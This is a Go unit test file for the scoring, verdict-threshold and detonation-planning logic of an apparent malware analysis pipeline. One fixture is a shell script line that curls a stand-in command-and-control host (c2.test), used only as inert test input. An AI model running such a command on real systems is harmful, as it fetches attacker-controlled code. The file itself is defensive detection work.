package pipeline

import (
	"testing"

	"github.com/malwatch-project/malwatch/internal/config"
	"github.com/malwatch-project/malwatch/internal/core"
)

func testScoring() config.ScoringConfig {
	return config.ScoringConfig{
		SignatureWeight:     0.6,
		IOCWeight:           0.4,
		SuspiciousThreshold: 0.35,
		MaliciousThreshold:  0.7,
		FailurePenalty:      0.8,
		PackedSignal:        0.3,
	}
}

func TestScoreSample_StrongestSignalsWin(t *testing.T) {
	rules := []core.RuleMatch{
		{RuleID: "low", Severity: core.SeverityLow},
		{RuleID: "crit", Severity: core.SeverityCritical},
	}
	iocs := []core.IOCMatch{
		{Confidence: 0.3},
		{Confidence: 0.5},
	}
	// 0.6*1.0 + 0.4*0.5
	got := scoreSample(testScoring(), rules, iocs, 0, false)
	if got != 0.8 {
		t.Errorf("score: got %.4f, want 0.8", got)
	}
}

func TestScoreSample_NoSignals(t *testing.T) {
	if got := scoreSample(testScoring(), nil, nil, 0, false); got != 0 {
		t.Errorf("no matches should score zero, got %.4f", got)
	}
}

func TestScoreSample_FailurePenalty(t *testing.T) {
	rules := []core.RuleMatch{{Severity: core.SeverityCritical}}
	full := scoreSample(testScoring(), rules, nil, 0, false)
	degraded := scoreSample(testScoring(), rules, nil, 1, false)
	if full != 0.6 {
		t.Errorf("baseline: got %.4f", full)
	}
	// One failed stage multiplies by 0.8.
	if degraded <= 0.47 || degraded >= 0.49 {
		t.Errorf("penalized score: got %.4f, want 0.48", degraded)
	}
	twice := scoreSample(testScoring(), rules, nil, 2, false)
	if twice >= degraded {
		t.Errorf("penalty must compound: %.4f vs %.4f", twice, degraded)
	}
}

func TestScoreSample_Clamped(t *testing.T) {
	cfg := testScoring()
	cfg.SignatureWeight = 0.9
	cfg.IOCWeight = 0.9
	rules := []core.RuleMatch{{Severity: core.SeverityCritical}}
	iocs := []core.IOCMatch{{Confidence: 1.0}}
	if got := scoreSample(cfg, rules, iocs, 0, false); got != 1 {
		t.Errorf("score must clamp to 1, got %.4f", got)
	}
}

func TestScoreSample_PackedEntropySignal(t *testing.T) {
	cfg := testScoring()
	// No rules and no IOCs, but a packed sample still carries a baseline
	// suspicion: 0.6 * 0.3.
	got := scoreSample(cfg, nil, nil, 0, true)
	if got <= 0.17 || got >= 0.19 {
		t.Errorf("packed score: got %.4f, want 0.18", got)
	}
	rules := []core.RuleMatch{{Severity: core.SeverityCritical}}
	withPacked := scoreSample(cfg, rules, nil, 0, true)
	without := scoreSample(cfg, rules, nil, 0, false)
	if withPacked != without {
		t.Errorf("a stronger signature must dominate the entropy floor: %.4f vs %.4f", withPacked, without)
	}
}

func TestVerdictFor_Thresholds(t *testing.T) {
	cfg := testScoring()
	cases := []struct {
		score float64
		want  core.Verdict
	}{
		{0.0, core.VerdictBenign},
		{0.34, core.VerdictBenign},
		{0.35, core.VerdictSuspicious},
		{0.69, core.VerdictSuspicious},
		{0.7, core.VerdictMalicious},
		{1.0, core.VerdictMalicious},
	}
	for _, tc := range cases {
		if got := verdictFor(cfg, tc.score); got != tc.want {
			t.Errorf("score %.2f: got %v, want %v", tc.score, got, tc.want)
		}
	}
}

func TestPlanStages_ExecutableFormat(t *testing.T) {
	tenant := core.TenantContext{ID: "t", AllowDynamic: true}
	plan := planStages([]byte("MZ\x90\x00payload"), tenant)
	if plan.Format != "pe" || !plan.WantStatic || !plan.WantDynamic {
		t.Errorf("unexpected plan: %+v", plan)
	}
}

func TestPlanStages_NoExecutableSurface(t *testing.T) {
	tenant := core.TenantContext{ID: "t", AllowDynamic: true}
	plan := planStages([]byte("%PDF-1.7 body"), tenant)
	if plan.WantDynamic {
		t.Error("pdf should not detonate")
	}
	if plan.SkippedReason == "" {
		t.Error("skip reason should be recorded")
	}
}

func TestPlanStages_TenantPolicy(t *testing.T) {
	tenant := core.TenantContext{ID: "t", AllowDynamic: false}
	plan := planStages([]byte("MZ\x90\x00payload"), tenant)
	if plan.WantDynamic {
		t.Error("tenant policy should suppress detonation")
	}
	if plan.SkippedReason != "tenant policy disallows detonation" {
		t.Errorf("reason: %q", plan.SkippedReason)
	}
}

func TestPlanStages_Deterministic(t *testing.T) {
	tenant := core.TenantContext{ID: "t", AllowDynamic: true}
	content := []byte("#!/bin/sh\ncurl http://c2.test/x")
	a := planStages(content, tenant)
	b := planStages(content, tenant)
	if a != b {
		t.Errorf("identical inputs must plan identically: %+v vs %+v", a, b)
	}
}
